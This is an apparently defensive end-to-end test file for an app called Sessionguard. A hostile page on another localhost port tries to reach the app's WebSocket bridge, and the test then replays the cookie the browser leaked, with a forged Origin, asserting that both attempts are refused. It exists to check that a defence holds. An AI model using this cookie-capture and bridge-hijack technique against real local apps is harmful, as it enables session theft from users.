import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import WebSocket from 'ws';
import type { Api } from '../../src-main/contract/api.ts';
import { suiteTempDir } from '../support/temp-storage.ts';
import { e2eUnavailable, startBrowserMode, type BrowserMode } from './support/browser-mode.ts';

/** The page's globals, typed here because this file is checked without DOM types. */
type Page = { api: Api; localStorage: { getItem(key: string): string | null } };

/**
 * Another server on 127.0.0.1, on another port: cookies ignore the port, so the browser sends it
 * Sessionguard's cookie. It keeps what it is sent, and its page tries the bridge from the browser.
 */
async function startHostileServer(appPort: number): Promise<{ server: Server; port: number; cookies: string[]; reports: string[] }> {
  const cookies: string[] = [];
  const reports: string[] = [];
  const page = `<!doctype html><title>Not Sessionguard</title><script>
    const report = (what) => fetch('/report', { method: 'POST', body: what });
    const ws = new WebSocket('ws://127.0.0.1:${appPort}/bridge', ['sessionguard']);
    ws.onopen = () => { report('bridge opened'); ws.send(JSON.stringify({ id: 1, channel: 'getFeedSettings', payload: {} })); };
    ws.onmessage = (m) => report('bridge answered ' + m.data);
    ws.onerror = () => report('bridge refused');
    fetch('http://127.0.0.1:${appPort}/', { credentials: 'include' }).then(() => report('page read'), () => report('page unreadable'));
  </script>`;
  const server = createServer((req, res) => {
    if (req.headers.cookie) cookies.push(req.headers.cookie);
    if (req.method === 'POST') {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk));
      req.on('end', () => {
        reports.push(body);
        res.end();
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  return { server, port: (server.address() as AddressInfo).port, cookies, reports };
}

function replayBridge(port: number, cookie: string, protocols: string[]): Promise<number | 'opened'> {
  return new Promise((resolve, reject) => {
    const ws = new WebSocket(`ws://127.0.0.1:${port}/bridge`, protocols, { headers: { cookie, origin: `http://127.0.0.1:${port}` } });
    ws.once('open', () => {
      ws.close();
      resolve('opened');
    });
    ws.once('unexpected-response', (_req, res) => resolve(res.statusCode!));
    ws.once('error', reject);
  });
}

function getPage(port: number, cookie: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, path: '/', headers: { host: `127.0.0.1:${port}`, cookie } }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (body += chunk));
      res.on('end', () => resolve({ status: res.statusCode!, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

describe.skipIf(e2eUnavailable() !== null)('browser mode beside another server on 127.0.0.1, in Chromium', () => {
  let app: BrowserMode;
  let hostile: Awaited<ReturnType<typeof startHostileServer>>;
  beforeAll(async () => {
    app = await startBrowserMode(suiteTempDir());
    await app.page.getByRole('heading', { name: 'Welcome to Sessionguard' }).waitFor();
    hostile = await startHostileServer(app.server.port);
  });
  afterAll(async () => {
    await app?.close();
    hostile?.server.close();
  });

  test('a page on another port is sent the cookie, yet neither it nor a program replaying the cookie can open the bridge', async () => {
    const evil = await app.page.context().newPage();
    await evil.goto(`http://127.0.0.1:${hostile.port}/`);
    await expect.poll(() => hostile.reports.length, { timeout: 10_000 }).toBeGreaterThanOrEqual(2);
    expect(hostile.reports).toContain('bridge refused');
    expect(hostile.reports).toContain('page unreadable');
    expect(hostile.reports.some((r) => r.startsWith('bridge answered'))).toBe(false);

    // The premise: the browser did hand Sessionguard's cookie to the other server.
    const stolen = hostile.cookies.flatMap((header) => header.split('; ')).find((c) => c.startsWith('sessionguard_'));
    expect(stolen).toBeDefined();

    // Replayed from a program, with our Origin forged: refused without the page's bridge key.
    expect(await replayBridge(app.server.port, stolen!, [])).toBe(403);
    expect(await replayBridge(app.server.port, stolen!, ['sessionguard'])).toBe(403);
    // The cookie still loads the app's files, and they don't carry the key.
    const key = await app.page.evaluate(() => (globalThis as unknown as Page).localStorage.getItem('sessionguard.bridgeKey'));
    expect(key).toMatch(/^[\w-]{40,}$/);
    const files = await getPage(app.server.port, stolen!);
    expect(files.status).toBe(200);
    expect(files.body).not.toContain(key!);
    expect(app.page.url()).not.toContain(key!);
    await evil.close();
  });

  test('the signed-in page keeps working across a reload, and sees the feed token only when it asks for it', async () => {
    await app.page.reload();
    await app.page.getByRole('heading', { name: 'Welcome to Sessionguard' }).waitFor();
    const settings = await app.page.evaluate(() => (globalThis as unknown as Page).api.getFeedSettings({}));
    expect(settings.ok).toBe(true);
    expect(settings.ok && settings.value).not.toHaveProperty('token');
    const revealed = await app.page.evaluate(() => (globalThis as unknown as Page).api.revealFeedToken({}));
    expect(revealed).toEqual({ ok: true, value: { token: await app.core.feed.revealToken() } });
  });
});
